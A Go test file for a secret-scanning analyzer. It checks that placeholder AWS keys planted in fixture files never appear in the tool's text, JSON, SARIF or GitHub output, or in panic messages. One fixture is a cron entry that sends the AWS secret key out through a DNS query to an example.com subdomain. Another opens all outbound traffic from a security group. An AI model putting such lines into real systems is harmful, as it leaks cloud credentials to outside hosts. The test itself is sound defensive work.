package main

import (
	"io/fs"
	"slices"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/hiyari/hiyari/analyzers"
	"github.com/hiyari/hiyari/analyzers/fact"
	"github.com/hiyari/hiyari/cmd/hiyari/internal/demo"
)

const seed = 7

func fill(text string) string { return demo.Fill(text, seed) }

// leaky is the demo's tree with files in which secrets stand in the way of
// everything that prints.
func leaky() map[string]string {
	files := map[string]string{}
	for _, f := range demo.Tree(seed) {
		files[f.Name] = string(f.Content)
	}
	for _, f := range txtar.Parse([]byte(fill(leakyFiles))).Files {
		files[f.Name] = string(f.Data)
	}
	return files
}

const leakyFiles = `
-- leaky/etc/cron.d/both --
*/5 * * * * root AWS_ACCESS_KEY_ID={{aws_access_key_id}} AWS_SECRET_ACCESS_KEY={{aws_secret_access_key}} dig @8.8.8.8 {{aws_secret_access_key}}.example.com
-- leaky/broken.tf --
provider "aws" {
  access_key = "{{aws_access_key_id}}"
  secret_key = "{{aws_secret_access_key}}"
resource {{aws_secret_access_key}} {
-- leaky/broken.sh --
export AWS_SECRET_ACCESS_KEY={{aws_secret_access_key}}
if ( "{{aws_secret_access_key}}" {{aws_access_key_id}}
-- leaky/keys.sh --
export AWS_ACCESS_KEY_ID={{aws_access_key_id}} # hiyari:ignore nope {{aws_secret_access_key}}
export AWS_SECRET_ACCESS_KEY="{{aws_secret_access_key}}"
aws ec2 authorize-security-group-egress --group-id sg-1 --protocol all --cidr 0.0.0.0/0 --profile "{{aws_secret_access_key}}"
`

// leaks lists the pieces of the secret values that an output holds. The public
// prefix of a key id may be shown.
func leaks(output string) []string {
	var found []string
	const piece = 8
	for _, value := range []string{fill("{{aws_access_key_id}}")[4:], fill("{{aws_secret_access_key}}")} {
		for i := 0; i+piece <= len(value); i++ {
			if strings.Contains(output, value[i:i+piece]) {
				found = append(found, value[i:i+piece])
			}
		}
	}
	return found
}

func TestNoSecretReachesAnyOutput(t *testing.T) {
	env := world(t, leaky())
	commands := map[string][]string{
		"facts":        {"facts", "."},
		"text-colored": {"check", "--color", "always", "--audit", "--show-suppressed", "--stats"},
		"one-by-one":   {"check", "--audit", "leaky/broken.tf", "leaky/broken.sh", "leaky/keys.sh", "leaky/etc"},
	}
	for _, format := range []string{"text", "json", "sarif", "github"} {
		commands[format] = []string{"check", "--audit", "--show-suppressed", "-f", format}
	}
	for name, args := range commands {
		t.Run(name, func(t *testing.T) {
			got := env.try(args...)
			if found := leaks(got.stdout + got.stderr); found != nil {
				t.Errorf("%d pieces of secrets are shown", len(found))
			}
			if !strings.Contains(got.stdout, "(40)") && name != "github" {
				t.Error("no masked secret is shown at all: the test has no object")
			}
		})
	}
}

func TestPanicNamesFunctionsAndNoValues(t *testing.T) {
	env := world(t, leaky())
	env.load = func(fs.FS, analyzers.Options) *fact.Project { return panicWith(leaky()["leaky/keys.sh"]) }
	for _, args := range [][]string{{"check"}, {"facts", "."}, {"check", "-f", "sarif"}} {
		got := env.try(args...)
		if got.status != 2 || got.stdout != "" {
			t.Errorf("status %d, standard output %q", got.status, got.stdout)
		}
		line, hint, _ := strings.Cut(got.stderr, "\n")
		if !strings.HasPrefix(line, "internal error: in ") || !strings.Contains(line, "panicWith") || !strings.Contains(hint, "report") {
			t.Errorf("standard error %q", got.stderr)
		}
		if found := leaks(got.stderr); found != nil {
			t.Errorf("%d pieces of secrets are shown", len(found))
		}
	}
}

// panicWith panics with the content of a file, twice over: as the value and as
// an index error.
func panicWith(content string) *fact.Project {
	defer func() { panic(content) }()
	lines := strings.Split(content, "\n")
	return map[string]*fact.Project{lines[len(lines)+slices.Index(lines, "nowhere")+1]: nil}[content]
}
